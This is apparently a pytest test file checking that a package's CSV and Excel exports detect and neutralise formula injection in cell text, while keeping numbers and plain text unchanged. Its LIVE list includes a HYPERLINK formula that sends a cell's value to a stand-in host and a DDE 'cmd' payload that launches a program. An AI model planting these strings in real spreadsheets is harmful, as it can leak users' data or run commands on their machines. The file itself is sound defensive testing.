"""Tables for people hold no live formulas, and say what they were given."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pyarrow as pa
import pytest

from sanyu.address.cells import may_be_formula
from sanyu.address.tablefiles import rows_of, writer_of

LIVE = ["=HYPERLINK(\"http://example.org?x=\"&A1)", "=1+1", "+1+1", "-2+3", "-2 ", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "+86 571", "--1",
        "-", "＝1+1", "＋1", "－1", "＠x", "-1e9999", "-1,5", "+cmd|' /C calc'!A0"]  # fmt: skip
PLAIN = [
    "",
    " =1",
    "'=1",
    "a=1",
    "-2",
    "-2.5",
    "+2",
    "-.5",
    "-1e-7",
    "1=1",
    "建设西路8号",
    "1-2",
    "#REF!",
    "#N/A",
    "TRUE",
    "007",
    "2026-01-01",
]


@pytest.mark.parametrize("text", LIVE)
def test_what_a_spreadsheet_could_evaluate_is_known(text: str) -> None:
    assert may_be_formula(text)


@pytest.mark.parametrize("text", PLAIN)
def test_plain_numbers_and_texts_are_no_formulas(text: str) -> None:
    assert not may_be_formula(text)


def written(path: Path, texts: list[str], numbers: list[float]) -> Path:
    table = pa.table({"=text": texts, "n": pa.array(numbers, pa.float64()), "i": pa.array([-3] * len(texts), pa.int64())})
    with writer_of(path, "", {}) as writer:
        writer.write(table)
        writer.finish()
    return path


def test_csv_guards_texts_and_headings_and_leaves_numbers(tmp_path: Path) -> None:
    texts = [*LIVE, *PLAIN]
    with written(tmp_path / "a.csv", texts, [-2.5] * len(texts)).open(encoding="utf-8-sig", newline="") as file:
        head, *rows = list(csv.reader(file))
    assert head == ["'=text", "n", "i"]
    assert [row[0] for row in rows] == [f"'{text}" for text in LIVE] + PLAIN
    assert {(row[1], row[2]) for row in rows} == {("-2.5", "-3")}


def test_a_guarded_csv_that_is_read_and_written_again_stays_as_it_is(tmp_path: Path) -> None:
    first = written(tmp_path / "a.csv", [t for t in LIVE if "\r" not in t and "\n" not in t], [1.0] * 17)
    with writer_of(tmp_path / "b.csv", "", {}) as writer:
        for chunk in rows_of(first).chunks(5):
            writer.write(chunk)
        writer.finish()
    assert (tmp_path / "b.csv").read_bytes() == first.read_bytes()


def test_workbooks_hold_texts_as_texts_unchanged_and_numbers_as_numbers(tmp_path: Path) -> None:
    texts = [t for t in [*LIVE, *PLAIN] if t and "\r" not in t]
    path = written(tmp_path / "a.xlsx", texts, [-2.5] * len(texts))
    head, *rows = openpyxl.load_workbook(path).worksheets[0].iter_rows()
    assert (head[0].value, head[0].data_type) == ("=text", "s")
    assert [row[0].value for row in rows] == texts
    assert {row[0].data_type for row in rows} == {"s"}
    assert [row[0].quotePrefix for row in rows] == [text in LIVE or text.startswith("#") for text in texts]
    assert {(row[1].value, row[1].data_type, row[2].value) for row in rows} == {(-2.5, "n", -3)}


def test_control_characters_and_overlong_texts_do_not_break_a_workbook(tmp_path: Path) -> None:
    path = written(tmp_path / "a.xlsx", ["=\x00\x1b1", "长" * 40_000], [1.0, 2.0])
    rows = list(openpyxl.load_workbook(path).worksheets[0].iter_rows(min_row=2, values_only=True))
    assert rows[0][0] == "=1"
    assert len(rows[1][0]) == 32_767
